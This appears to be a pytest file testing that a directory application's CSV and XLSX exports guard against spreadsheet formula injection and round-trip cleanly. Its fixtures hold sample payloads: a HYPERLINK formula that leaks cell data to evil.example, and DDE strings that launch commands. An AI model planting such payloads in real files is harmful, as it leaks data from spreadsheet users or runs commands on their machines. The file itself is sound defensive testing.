"""Spreadsheet-safe files: no CSV or XLSX the project writes holds a cell a spreadsheet would run as a formula
(=HYPERLINK(...), +cmd|..., -..., @...), and export -> import stays exact for ordinary text ("- drop-in")."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from types import SimpleNamespace

import pandas as pd
import pytest

import directory.__main__ as cli
from directory.accounts import create_user
from directory.api import Directory
from directory.io.export import export_bytes
from directory.io.importer import import_file
from tests.conftest import fake_locator

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = {"id": "f-1", "name": HYPERLINK, "organisation": "- drop-in", "category": "training",
           "delivery": ("online",), "description": "@SUM(1+1)", "accessibility": DDE, "cost": "'=x",
           "contact_name": "-2+3+cmd|' /C calc'!A0", "sector": "'quoted'"}
ORDINARY = {"id": "f-2", "name": "Tees Valley", "organisation": "Tees Valley", "category": "training",
            "delivery": ("online",), "description": "- drop-in Tuesdays\n- bring ID", "cost": "free"}
# What the CSV holds for each of those cells, read without any unguarding.
WRITTEN = {
    "f-1": {"name": "'" + HYPERLINK, "organisation": "'- drop-in", "description": "'@SUM(1+1)",
            "accessibility": "'" + DDE, "cost": "''=x", "contact_name": "'-2+3+cmd|' /C calc'!A0",
            "sector": "'quoted'"},
    "f-2": {"name": "Tees Valley", "organisation": "Tees Valley", "description": "'- drop-in Tuesdays\n- bring ID",
            "cost": "free"},
}


@pytest.mark.parametrize("text, written", [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    (" =1+1", "' =1+1"),  # some spreadsheets trim the space when they read a CSV
    ("'=x", "''=x"),  # so that "'=x" round-trips
    ("- drop-in", "'- drop-in"),
    ("Tees Valley", "Tees Valley"),
    ("'quoted'", "'quoted'"),
    ("-1.234694", "-1.234694"),  # a plain number is only a number
    ("", ""),
])
def test_the_guard_and_its_inverse(text, written):
    from directory.io.spreadsheet import spreadsheet_safe, unguard

    assert spreadsheet_safe(text) == written
    assert unguard(written) == text


def _raw_csv_cells(data: bytes) -> dict[str, dict[str, str]]:
    """Each row's cells exactly as written in the file (no import-side processing)."""
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return {row["id"]: row for row in rows}


def _fresh(tmp_path, name: str) -> Directory:
    fresh = Directory(f"sqlite:///{tmp_path / name}", locate_postcode=fake_locator)
    create_user(fresh, "bob", "Bob", "editor")
    return fresh


def test_the_csv_export_guards_formulas_and_round_trips_exactly(directory, tmp_path):
    directory.create(HOSTILE, "alice")
    directory.create(ORDINARY, "alice")
    data = export_bytes(directory.entries(), "csv")
    cells = _raw_csv_cells(data)
    for entry_id, expected in WRITTEN.items():
        assert {name: cells[entry_id][name] for name in expected} == expected

    path = tmp_path / "directory.csv"
    path.write_bytes(data)
    fresh = _fresh(tmp_path, "fresh.db")
    report = import_file(fresh, path, author="bob")
    assert (report.created, report.rejected, report.possible_duplicates) == (2, [], [])
    assert [e.values() for e in fresh.entries()] == [e.values() for e in directory.entries()]
    assert (fresh.get("f-1").organisation, fresh.get("f-1").cost, fresh.get("f-2").name) == ("- drop-in", "'=x", "Tees Valley")
    fresh.engine.dispose()


def _sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_the_xlsx_export_has_text_cells_only_and_round_trips_exactly(directory, tmp_path):
    directory.create(HOSTILE, "alice")
    directory.create(ORDINARY, "alice")
    data = export_bytes(directory.entries(), "xlsx")
    sheet = _sheet_xml(data)
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    types = set(re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")? t="(\w+)"', sheet))
    assert types == {"inlineStr"}
    assert len(re.findall(r"<c ", sheet)) == len(re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")? t="inlineStr"', sheet))
    assert '<t>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Click for details")</t>' in sheet  # as text

    from openpyxl import load_workbook
    sheet = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2])}
    # Excel's "typed with a leading '" mark on the cells a spreadsheet would run, so editing keeps them text.
    assert {n: (first[n].value, first[n].data_type, first[n].quotePrefix) for n in ("name", "organisation", "cost")} == {
        "name": (HYPERLINK, "s", True), "organisation": ("- drop-in", "s", True), "cost": ("'=x", "s", True)}

    path = tmp_path / "directory.xlsx"
    path.write_bytes(data)
    fresh = _fresh(tmp_path, "fresh.db")
    report = import_file(fresh, path, author="bob")
    assert (report.created, report.rejected, report.possible_duplicates) == (2, [], [])
    assert [e.values() for e in fresh.entries()] == [e.values() for e in directory.entries()]
    fresh.engine.dispose()


def test_a_formula_behind_a_leading_space_is_guarded_once_imported(directory, tmp_path):
    path = tmp_path / "spaced.csv"
    path.write_text('id,name,organisation,category,delivery\ns-1, =1+1,\t@SUM(A1),training,online\n', encoding="utf-8")
    report = import_file(directory, path, author="alice")
    assert (report.created, report.rejected) == (1, [])
    entry = directory.get("s-1")
    assert (entry.name, entry.organisation) == ("=1+1", "@SUM(A1)")  # the import trims the spaces...
    cells = _raw_csv_cells(export_bytes(directory.entries(), "csv"))["s-1"]
    assert (cells["name"], cells["organisation"]) == ("'=1+1", "'@SUM(A1)")  # ...and the export guards what is left
    assert "<f>" not in _sheet_xml(export_bytes(directory.entries(), "xlsx"))


def test_an_apostrophe_the_export_did_not_add_stays(directory, tmp_path):
    path = tmp_path / "typed.csv"
    path.write_text("id,name,organisation,category,delivery\n"
                    "t-1,'- drop-in,'Tees Valley',training,online\n", encoding="utf-8")
    import_file(directory, path, author="alice")
    entry = directory.get("t-1")
    # "'- drop-in" is how a spreadsheet user types "- drop-in"; "'Tees Valley'" is not a guard, so it stays.
    assert (entry.name, entry.organisation) == ("- drop-in", "'Tees Valley'")


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_the_command_line_export_is_spreadsheet_safe(directory, tmp_path, monkeypatch, capsys, format):
    directory.create(HOSTILE, "alice")
    monkeypatch.setattr(cli, "_open", lambda: directory)
    out = tmp_path / f"out.{format}"
    assert cli.main(["export", "--format", format, "--out", str(out)]) == 0
    assert capsys.readouterr().out == f"wrote 1 entries to {out}\n"
    if format == "csv":
        cells = _raw_csv_cells(out.read_bytes())["f-1"]
        assert (cells["name"], cells["accessibility"], cells["organisation"]) == ("'" + HYPERLINK, "'" + DDE, "'- drop-in")
    else:
        assert "<f>" not in _sheet_xml(out.read_bytes())


def test_every_csv_download_is_guarded():
    from directory.coverage import to_csv_bytes
    from ui.find_support import CSV_COLUMNS, results_csv
    from ui.planner_support import access_log_csv

    # Coverage, unmet needs, duplicates, freshness: area names (from an uploaded file) and headers too.
    frame = pd.DataFrame({"area": ["=A1", "North"], "@count": [1, -2], "note": [" =1+1", "- drop-in"]}).set_index("area")
    assert to_csv_bytes(frame).decode("utf-8-sig") == (
        "area,'@count,note\r\n'=A1,1,' =1+1\r\nNorth,-2,'- drop-in\r\n")

    found = results_csv([{"name": " =1+1", "organisation": "'=x", "distance_km": "-1.5", "entry_id": "e-1"}])
    row = next(csv.DictReader(io.StringIO(found.decode("utf-8-sig"))))
    assert (row["name"], row["organisation"], row["distance_km"], row["entry_id"]) == ("' =1+1", "''=x", "-1.5", "e-1")
    assert list(row) == list(CSV_COLUMNS)

    at = dt.datetime(2026, 3, 2, 9, 30, tzinfo=dt.timezone.utc)
    log = access_log_csv([SimpleNamespace(at=at, username="'=x", client_ref=" =1", organisation="-org", action="read")],
                         {"'=x": "@Someone"})
    assert log.decode("utf-8-sig").splitlines()[1] == (
        "2026-03-02T09:30:00Z,2026-03-02 09:30,''=x,'@Someone,' =1,'-org,read,Opened the record")
